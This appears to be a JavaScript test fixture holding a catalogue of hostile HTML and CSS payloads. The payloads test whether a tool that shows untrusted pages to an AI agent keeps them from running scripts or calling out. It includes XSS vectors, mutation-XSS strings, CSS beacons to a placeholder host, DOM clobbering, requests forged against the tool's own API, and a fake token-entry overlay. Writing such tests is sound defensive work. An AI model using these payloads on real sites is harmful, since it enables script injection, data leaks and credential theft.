/**
 * Hostile pages. `RUN` stands for a script that tells on itself, `CANARY` for the address of a server that counts its callers.
 * Each is sent to the agent as a tree that nobody made safe. A payload is HTML, or `[name, attributes, text]` for what no
 * HTML parser would make.
 */

/** Everything that a script could do to be noticed. Quotes are single: payloads stand in double quotes. */
export const runScript = (canary) =>
  `top.postMessage('ran','*');parent.postMessage('ran','*');console.log('ran');new Image().src='${canary}/ran'`;

const SCRIPTS = {
  "script": "<script>RUN</script>",
  "script src": '<script src="CANARY/x.js"></script>',
  "script module": '<script type="module">RUN</script>',
  "script nomodule": "<script nomodule>RUN</script>",
  "script data url": '<script src="data:text/javascript,RUN"></script>',
  "script importmap": '<script type="importmap">{"imports":{"x":"CANARY/m.js"}}</script><script type="module">import "x"</script>',
  "script speculation rules": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["CANARY/spec"]}]}</script>',
  "script in svg": "<svg><script>RUN</script></svg>",
  "script in svg with href": '<svg><script href="data:text/javascript,RUN"></script></svg>',
  "script in svg with xlink:href": '<svg><script xlink:href="CANARY/x.js"></script></svg>',
  "script in math": "<math><script>RUN</script></math>",
  "script in template": "<template><script>RUN</script></template>",
  "script in noscript": "<noscript><script>RUN</script></noscript>",
  "script in select": "<select><option><script>RUN</script></select>",
  "script in foreignObject": "<svg><foreignObject><div><script>RUN</script></div></foreignObject></svg>",
  "script, name in capitals": ["SCRIPT", [], "RUN"],
  "svg script, name in capitals": ["svg:SCRIPT", [], "RUN"],
  "script with the nonce of an empty name": '<script nonce="">RUN</script>',
};

const HANDLERS = {
  "onerror": '<img src="CANARY/none.png" onerror="RUN">',
  "onerror of a data image": '<img src="data:image/png,x" onerror="RUN">',
  "onload of svg": '<svg onload="RUN"><rect width="80" height="40"/></svg>',
  "onload of body": '<body onload="RUN" onpageshow="RUN" onhashchange="RUN" onresize="RUN">x',
  "onclick": '<p onclick="RUN" onmousedown="RUN" onmouseup="RUN">click me</p>',
  "onpointerover": '<p onpointerover="RUN" onpointerenter="RUN" onpointermove="RUN" onpointerdown="RUN">move here</p>',
  "onmouseover": '<p onmouseover="RUN" onmouseenter="RUN" onmousemove="RUN">move here</p>',
  "onfocus with autofocus": '<input autofocus onfocus="RUN" onblur="RUN" value="x">',
  "onfocusin with tabindex": '<p tabindex="1" onfocusin="RUN" onfocus="RUN">x</p>',
  "ontoggle": '<details open ontoggle="RUN"><summary>x</summary>y</details>',
  "onanimationstart": '<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1ms" onanimationstart="RUN" onanimationend="RUN">x</p>',
  "ontransitionend": '<p style="transition:all 1ms" ontransitionrun="RUN" ontransitionend="RUN">x</p>',
  "onbeforetoggle": '<div popover id="pop" onbeforetoggle="RUN" ontoggle="RUN">x</div><button popovertarget="pop">click</button>',
  "onscroll": '<div style="height:3000px" onscroll="RUN">x</div>',
  "onkeydown": '<textarea onkeydown="RUN" onkeypress="RUN" onbeforeinput="RUN" oninput="RUN">x</textarea>',
  "oncontextmenu": '<p oncontextmenu="RUN" onauxclick="RUN" ondblclick="RUN">x</p>',
  "onstart of marquee": '<marquee onstart="RUN" onbounce="RUN" loop="1">x</marquee>',
  "onloadstart of video": '<video src="CANARY/v.mp4" onloadstart="RUN" onerror="RUN" autoplay></video>',
  "onbegin of animate": '<svg><animate attributeName="x" dur="1ms" onbegin="RUN" onend="RUN"/><rect width="9" height="9"/></svg>',
  "oncontentvisibilityautostatechange": '<div style="content-visibility:auto" oncontentvisibilityautostatechange="RUN">x</div>',
  "onsecuritypolicyviolation": '<img src="CANARY/i.png" onsecuritypolicyviolation="RUN">',
  "handler, name in capitals": ["div", ["ONCLICK", "RUN", "oNmOuSeOvEr", "RUN"], "x"],
};

const URLS = {
  "javascript: link": '<a href="javascript:RUN">click me</a>',
  "javascript: with capitals": '<a href="JaVaScRiPt:RUN">click me</a>',
  "javascript: with tab and line end": '<a href="java&#9;scr&#10;ipt&colon;RUN">click me</a>',
  "javascript: after control characters": '<a href="&#1;&#8;&#14; javascript:RUN">click me</a>',
  "javascript: after much space": `<a href="${" ".repeat(3000)}javascript:RUN">click me</a>`,
  "javascript: with a target": '<a href="javascript:RUN" target="_blank">click me</a>',
  "vbscript: link": '<a href="vbscript:msgbox(1)">click me</a>',
  "data: page link": '<a href="data:text/html,<script>RUN</script>">click me</a>',
  "data: page link at the top": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target="_top">click me</a>',
  "javascript: in xlink:href": '<svg><a xlink:href="javascript:RUN"><text y="20">click me</text></a></svg>',
  "javascript: in area": '<img usemap="#m" width="90" height="40" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area shape="default" href="javascript:RUN"></map>',
  "javascript: in math": '<math href="javascript:RUN"><mtext>click me</mtext></math>',
  "javascript: in a form": '<form action="javascript:RUN"><button>click me</button></form>',
  "javascript: in formaction": '<form><button formaction="javascript:RUN">click me</button></form>',
  "javascript: in an image": '<img src="javascript:RUN"><input type="image" src="javascript:RUN">',
  "animate href to javascript:": '<svg><a><animate attributeName="href" values="javascript:RUN" fill="freeze"/><text y="20">click me</text></a></svg>',
  "set href to javascript:": '<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:RUN"/><text y="20">click me</text></a></svg>',
  "link at the top": '<a href="CANARY/top" target="_top">click me</a>',
  "link in a new tab": '<a href="CANARY/blank" target="_blank">click me</a>',
  "link with ping": '<a href="#x" ping="CANARY/ping">click me</a>',
  "link with attributionsrc": '<a href="#x" attributionsrc="CANARY/attr">click me</a><img attributionsrc="CANARY/attr2">',
  "link to download": '<a href="CANARY/file" download>click me</a>',
};

const FRAMES = {
  "iframe": '<iframe src="CANARY/frame"></iframe>',
  "iframe javascript:": '<iframe src="javascript:RUN"></iframe>',
  "iframe srcdoc": '<iframe srcdoc="<script>RUN</script>"></iframe>',
  "iframe data:": '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  "frameset": "<frameset cols='50%,*'><frame src='CANARY/f1'><frame src='javascript:RUN'></frameset>",
  "object": '<object data="CANARY/o.html"></object>',
  "object data:": '<object data="data:text/html,<script>RUN</script>" type="text/html"></object>',
  "object svg": '<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN\'/>"></object>',
  "embed": '<embed src="CANARY/e.swf"><embed src="data:text/html,<script>RUN</script>">',
  "portal and fenced frame": '<portal src="CANARY/portal"></portal><fencedframe src="CANARY/ff"></fencedframe>',
  "applet": '<applet code="CANARY/x" codebase="CANARY"></applet>',
  "shadow root": '<div><template shadowrootmode="open"><script>RUN</script><img src="CANARY/s.png"></template></div>',
  "custom element": '<button is="x-evil" onclick="RUN">click me</button><x-evil onclick="RUN">y</x-evil>',
};

const LOADS = {
  "meta refresh": '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
  "meta refresh to javascript:": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  "meta refresh in the body, capitals": ["meta", ["HTTP-EQUIV", "ReFreSh", "content", "0; CANARY/refresh"], ""],
  "meta policy": '<meta http-equiv="Content-Security-Policy" content="report-uri CANARY/csp; img-src \'none\'">',
  "base": '<base href="CANARY/"><img src="b.png"><a href="x" target="_top">click me</a>',
  "link stylesheet": '<link rel="stylesheet" href="CANARY/s.css">',
  "link preload": '<link rel="preload" as="script" href="CANARY/p.js"><link rel="modulepreload" href="CANARY/m.js">',
  "link prefetch": '<link rel="prefetch" href="CANARY/p"><link rel="prerender" href="CANARY/pr"><link rel="next" href="CANARY/n">',
  "link dns-prefetch and preconnect": '<link rel="dns-prefetch" href="CANARY"><link rel="preconnect" href="CANARY">',
  "link icon and manifest": '<link rel="icon" href="CANARY/i.ico"><link rel="manifest" href="CANARY/m.json">',
  "image": '<img src="CANARY/i.png">',
  "image srcset": '<img srcset="CANARY/1.png 1x, CANARY/2.png 2x"><picture><source srcset="CANARY/3.png"><img alt="x"></picture>',
  "video, audio, source, track, poster":
    '<video poster="CANARY/p.png"><source src="CANARY/v.mp4"><track default src="CANARY/t.vtt"></video><audio src="CANARY/a.mp3" autoplay></audio>',
  "input image": '<input type="image" src="CANARY/i.png">',
  "background attribute": '<body background="CANARY/bg.png"><table background="CANARY/t.png"><tr><td background="CANARY/td.png">x',
  "svg image, use, feImage":
    '<svg><image href="CANARY/i.png" width="9" height="9"/><use href="CANARY/u.svg#x"/><filter id="f"><feImage href="CANARY/f.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  "svg use data:": '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN\'></svg>#x"/></svg>',
  "svg paint": '<svg><rect fill="url(CANARY/p.svg#a)" mask="url(CANARY/m.svg#a)" cursor="url(CANARY/c.cur),auto" width="90" height="40"/></svg>',
  "svg script url in a filter": '<svg><rect style="filter:url(CANARY/f.svg#a)" width="90" height="40"/></svg>',
  "bgsound, lowsrc, longdesc": '<bgsound src="CANARY/b.wav"><img lowsrc="CANARY/l.png" dynsrc="CANARY/d.avi" longdesc="CANARY/d">',
  "form": '<form action="CANARY/form" method="post"><input name="a" value="1"><button>click me</button></form>',
  "form at the top": '<form action="CANARY/form" target="_top"><input type="submit" value="click me"></form>',
  "formaction": '<form><button formaction="CANARY/fa" formtarget="_blank">click me</button></form>',
  "form that submits to the studio": '<form action="STUDIO/api/act" method="post" enctype="text/plain"><button>click me</button></form>',
  "dialog form": '<dialog open><form method="dialog" action="CANARY/d"><button>click me</button></form></dialog>',
};

/** Style sheets: in a style attribute, and as a sheet of the page. */
const STYLES = {
  "url": "background:url(CANARY/c1.png)",
  "quoted url": "background:url( 'CANARY/c2.png' )",
  "escaped url": "background:u\\72l(CANARY/c3.png)",
  "url, each letter escaped": "background:\\75\\72\\6c(CANARY/c4.png)",
  "url in a variable": "--x:url(CANARY/c5.png);background:var(--x)",
  "escaped url in a variable": "--x:\\000075 rl(CANARY/c6.png);background:var(--x)",
  "image-set": "background:image-set('CANARY/c7.png' 1x);background:-webkit-image-set(url(CANARY/c8.png) 1x)",
  "escaped image-set": "background:image-s\\65 t('CANARY/c9.png' 1x)",
  "cursor": "cursor:url(CANARY/c10.cur),auto",
  "list, border, mask, shape": "list-style:url(CANARY/l.png);border-image:url(CANARY/b.png) 1;mask:url(CANARY/m.png);shape-outside:url(CANARY/s.png);float:left",
  "content": "content:url(CANARY/c11.png)",
  "old script": "behavior:url(CANARY/x.htc);-moz-binding:url(CANARY/x.xml#a);width:expression(RUN)",
};

const SHEETS = {
  "import": '@import "CANARY/i1.css"; @import url(CANARY/i2.css);',
  "escaped import": '@\\69mport "CANARY/i3.css";',
  "font": "@font-face{font-family:f;src:url(CANARY/f.woff)} *{font-family:f}",
  "escaped font": "@font-face{font-family:f;src:u\\72 l(CANARY/f2.woff)} *{font-family:f}",
  "attribute reader": 'a[href^="#"]{background:url(CANARY/leak)} *{background:url(CANARY/all)}',
  "generated": "*::before{content:url(CANARY/g.png)} *::selection{background:url(CANARY/sel)}",
  "layered": "@layer a{@media all{@supports (color:red){*{background:url(CANARY/lay)}}}}",
  "nested": "html{body &, & body{background:url(CANARY/nest)}}",
  "page covers the overlay": "html>*:last-child{display:none!important} *{visibility:hidden;pointer-events:none;z-index:2147483647}",
};

/** Pages that a second parse would turn into something else: the agent never parses. */
const MUTATIONS = {
  "nested forms": '<form><div></form><form id="f"><math><mtext></form><form><mglyph><style></math><img src onerror="RUN">',
  "math annotation-xml": '<math><annotation-xml encoding="text/html"><style><img src onerror="RUN"></style></annotation-xml></math>',
  "math mtext table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  "svg style with markup": '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  "noscript with markup": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  "title with markup": '<title>&lt;/title&gt;&lt;img src=x onerror=RUN&gt;</title>',
  "textarea with markup": '<textarea>&lt;/textarea&gt;&lt;img src=x onerror="RUN"&gt;</textarea>',
  "comment with markup": "<!--><img src=x onerror=RUN>-->x<!-- --!><img src=y onerror=RUN>",
  "xmp, plaintext, listing": "<xmp><img src=x onerror=RUN></xmp><listing>&lt;img src=x onerror=RUN&gt;</listing><plaintext><script>RUN</script>",
  "template in template": '<template><template><img src="CANARY/t.png" onerror="RUN"></template></template>',
};

/** Names of controls and images that stand before members of their form and of the document. */
export const CLOBBER =
  '<form name="createElement"><p id="inside">inside</p>' +
  "appendChild childNodes firstChild parentElement parentNode setAttribute getClientRects localName textContent nextSibling nodeType"
    .split(" ").map((name) => `<input name="${name}"><button id="${name}">x</button>`).join("") +
  "</form>" +
  "createElementNS createTextNode documentElement body elementsFromPoint adoptedStyleSheets createRange".split(" ").map((name) => `<img name="${name}" id="${name}">`).join("");

/** Modelled on published weaknesses of other local servers and viewers of pages. */
const PUBLISHED = {
  // A file name or a title of a page that is put into the tool's own page as HTML (many notebook and file servers).
  "title for the tool's own page": "<title><img src=x onerror=RUN></title><h1>&lt;img src=x onerror=RUN&gt;</h1>",
  // Postmessage that a page sends to take the place of the tool's own (viewers that do not check the source).
  "message to the tool": "<script>parent.postMessage({unhusk:'port'},'*');RUN</script>",
  // A page that calls the local server's API by simple requests (DNS rebinding, CSRF on developer tools).
  "calls of the tool's API": '<img src="STUDIO/api/act?act=undo"><iframe src="STUDIO/api/task"></iframe><link rel="stylesheet" href="STUDIO/api/task">',
  // Names that hide the globals of the tool (DOM clobbering).
  "clobbered globals": '<a id="Node"></a><a id="performance"></a><a id="parent"></a><a id="mock"></a><img name="currentScript"><form name="document"></form>',
  "clobbered members": CLOBBER,
  // A page that steals the focus or scrolls the tool by a fragment or an anchor.
  "focus and scroll": '<div style="height:5000px"></div><input id="x" autofocus><a href="#x" accesskey="s" autofocus tabindex="1">click me</a>',
  // A page that looks like the tool: covers everything, also what is drawn above the page.
  "covers everything": '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647">Enter your token<input type="password" autofocus></dialog>',
};

const styleAttributes = Object.entries(STYLES).map(([name, css]) => [`style: ${name}`, ["div", ["style", css], "styled"], []]);
const styleSheets = [
  ...Object.entries(STYLES).map(([name, css]) => [`sheet: ${name}`, "<p>styled</p>", [`p,p::before{${css}}`]]),
  ...Object.entries(SHEETS).map(([name, css]) => [`sheet: ${name}`, '<p>styled <a href="#x">link</a></p>', [css]]),
];
const pages = [SCRIPTS, HANDLERS, URLS, FRAMES, LOADS, MUTATIONS, PUBLISHED].flatMap((group) => Object.entries(group).map(([name, html]) => [name, html, []]));

/** @type {{ name: string, html: string | [string, string[], string], css: string[] }[]} */
export const PAYLOADS = [...pages, ...styleAttributes, ...styleSheets].map(([name, html, css]) => ({ name, html, css }));

/** Fills in RUN, CANARY and STUDIO everywhere in a value. */
export function fill(value, { run, canary, studio }) {
  if (Array.isArray(value)) return value.map((part) => fill(part, { run, canary, studio }));
  return value.replaceAll("RUN", run).replaceAll("CANARY", canary).replaceAll("STUDIO", studio);
}
